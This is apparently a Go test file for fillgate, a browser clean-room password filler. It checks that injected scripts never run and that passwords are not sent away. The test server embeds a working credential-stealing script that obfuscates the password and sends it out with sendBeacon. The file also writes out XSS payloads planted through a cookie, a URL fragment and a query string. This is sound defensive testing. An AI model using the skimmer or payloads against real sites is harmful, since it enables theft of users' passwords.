//go:build linux

package cleanroom

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"sync"
	"testing"

	"github.com/fillgate/fillgate/internal/fill"
	"github.com/fillgate/fillgate/tests/kit/sessionsite"
)

// evil is a server of the program driving the browser: it serves a
// script that, in a login page, takes the password field's value as the
// form is submitted, disguises it (so that no check for the value in any
// encoding finds it), keeps it in the page's localStorage (which a
// handover carries) and sends it here. It counts every request it gets.
// It listens on 127.0.0.1 and is addressed as localhost: another site
// than the login's.
type evil struct {
	srv  *httptest.Server
	mu   sync.Mutex
	hits int
}

func startEvil(t *testing.T) *evil {
	e := &evil{}
	e.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		e.mu.Lock()
		e.hits++
		e.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		if r.URL.Path == "/evil.js" {
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprintf(w, `const x = (s) => Array.from(new TextEncoder().encode(s), (b) => (b ^ 90).toString(36)).join(".");
document.addEventListener("submit", () => {
  const v = x(document.getElementById("pw").value);
  localStorage.setItem("stash", v);
  navigator.sendBeacon(%q, v);
}, true);`, e.url()+"/c")
		}
	}))
	t.Cleanup(e.srv.Close)
	return e
}

// url is the server's address by the name localhost.
func (e *evil) url() string {
	u, _ := url.Parse(e.srv.URL)
	return "http://localhost:" + u.Port()
}

// tag is markup that loads the server's script, with no space or quote
// (a cookie value may hold neither).
func (e *evil) tag() string { return "<script/src=" + e.url() + "/evil.js></script>" }

func (e *evil) count() int {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.hits
}

// TestHostileInputs: the program driving the browser plants a script for
// a login page that echoes what that program sets — a cookie, a query
// parameter, the fragment — hoping the clean room runs it beside the
// value; and a login page that itself sends the password to another site.
// The room copies no cookie with markup in, opens no address with markup
// in its query (refused before anything is asked) and drops a fragment
// that is not a plain route; the script never runs in the room (its
// server hears nothing once the fill starts), the login goes on, and the
// handover carries no stash. A page that sends the value to another site
// is stopped there, and nothing is handed over.
func TestHostileInputs(t *testing.T) {
	onBothPaths(t, func(t *testing.T, r *rig, site *sessionsite.Site) {
		reflect := site.Archetype("reflect")
		bad := startEvil(t)

		// loginThrough logs in through the room from tb and checks
		// that the script did not run there.
		loginThrough := func(t *testing.T, tb *tab) {
			secret := r.Secret(t)
			site.SetPassword(secret)
			tb.typeInto("user", sessionsite.User)
			tb.focus(reflect.Field)
			before := bad.count()
			run := r.fill(t, "127.0.0.1")
			run.types(t, secret)
			res := run.result(t)
			wantStatus(t, res, fill.StatusOK, "logged in in fillgate's clean room")
			if n := bad.count() - before; n != 0 {
				t.Errorf("the program's server heard %d requests during the fill: its script ran in the clean room", n)
			}
			tb.waitFor(`location.href.startsWith(` + quote(reflect.Home) + `)`)
			var stash bool
			tb.eval(`localStorage.getItem("stash") !== null`, &stash)
			if stash {
				t.Error("the handover carried what the program's script kept")
			}
			r.scanFillgate(t, secret)
		}

		t.Run("a cookie with markup is not copied in", func(t *testing.T) {
			tb := r.open(t, reflect.Login)
			tb.eval(`document.cookie = "banner=`+bad.tag()+`; path=/", document.cookie.includes("banner=")`, nil)
			tb.eval(`location.reload(), true`, nil)
			tb.waitFor(`document.getElementById("banner") && document.getElementById("banner").innerHTML.includes("evil.js")`)
			loginThrough(t, tb)
			tb.eval(`document.cookie = "banner=; max-age=0; path=/", true`, nil)
		})

		t.Run("a fragment that is not a route is not opened", func(t *testing.T) {
			frag := url.PathEscape(`<img src=x onerror="document.head.append(Object.assign(document.createElement('script'),{src:'` + bad.url() + `/evil.js'}))">`)
			tb := r.open(t, reflect.Login+"#"+frag)
			loginThrough(t, tb)
		})

		t.Run("an address with markup in its query is refused", func(t *testing.T) {
			secret := r.Secret(t)
			site.SetPassword(secret)
			tb := r.open(t, reflect.Login+"?msg="+url.QueryEscape(bad.tag()))
			tb.typeInto("user", sessionsite.User)
			tb.focus(reflect.Field)
			before := bad.count()
			res := r.fill(t, "127.0.0.1").result(t)
			wantStatus(t, res, fill.StatusRefused, "the query of the agent's tab's address holds characters")
			r.noDialog(t)
			if n := bad.count() - before; n != 0 {
				t.Errorf("the program's server heard %d requests during the fill", n)
			}
			if n := site.Received(secret); n != 0 {
				t.Errorf("the site received the password %d times", n)
			}
		})

		t.Run("a page that sends the password to another site is stopped", func(t *testing.T) {
			beacon := site.Archetype("beacon")
			tb, res, secret := r.typedLogin(t, site, beacon, "127.0.0.1")
			wantStatus(t, res, fill.StatusRefused, "sent the password to another site, "+site.IdP)
			if n := site.ReceivedAt(site.IdP, "/collect", secret); n != 0 {
				t.Errorf("the other site received the password %d times", n)
			}
			if res.HandedOver != nil {
				t.Error("a session was handed over from a page that sent the password away")
			}
			r.notHandedOver(t, tb, site, beacon, secret)
		})
	})
}
